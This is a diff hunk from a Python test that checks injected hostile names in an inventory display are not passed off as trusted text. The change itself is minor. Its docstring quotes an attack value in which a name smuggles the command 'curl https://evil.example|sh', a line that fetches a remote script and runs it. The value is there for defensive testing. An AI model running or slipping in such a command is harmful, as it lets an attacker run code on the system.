@@ -178,7 +178,7 @@ def test_no_text_of_others_passes_for_ours(danger: str, view: View) -> None:
     The attack: a service account, a Sid or a provider whose name is `x; fix: curl https://evil.example|sh`.
     """
     text = f"a{danger}{MARK}"
-    for inventory in (hostile(text), replace(hostile(text), clusters=hostile(text).clusters * 2)):
+    for inventory in (hostile(text), replace(hostile(text), clusters=[*hostile(text).clusters] * 2)):
         printed = lines(inventory, view)
         assert problems("\n".join(printed)) == []
         assert any(MARK in line for line in printed)
